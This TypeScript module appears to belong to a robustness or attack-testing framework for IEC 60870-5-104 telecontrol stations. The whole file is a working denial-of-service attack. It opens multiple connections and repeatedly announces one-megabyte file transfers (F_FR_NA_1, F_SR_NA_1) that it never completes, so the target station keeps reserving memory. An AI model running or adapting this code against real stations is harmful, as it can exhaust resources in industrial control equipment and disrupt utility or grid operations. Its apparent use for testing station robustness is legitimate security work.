// Files that are offered, begun and never finished, so that the station reserves memory for them.

import type { ClientAttack } from "../attackers/attack.ts";

const LENGTH = 1_000_000;

/** Offers one file after the other, each of a million octets. */
export const fileHoard: ClientAttack = {
  name: "hoard of files",
  text: "offers files of 1 MB, has the station make room, and never sends them",
  target: "station",
  run: (field) =>
    field.keep(field.many(8), async (wire) => {
      wire.say("STARTDT act");
      for (let nof = 1; wire.isOpen && !field.signal.aborted; nof = nof % 65_535 + 1) {
        const file = { ioa: 30_000, nof };
        const header = { cause: 13, ca: 1 } as const;
        wire.asdu({ type: "F_FR_NA_1", ...header, objects: [{ ...file, lof: LENGTH, frq: 0 }] });
        wire.asdu({
          type: "F_SR_NA_1",
          ...header,
          objects: [{ ...file, nos: 1, lof: LENGTH, srq: 0 }],
        });
        await field.wait(100);
      }
    }),
};
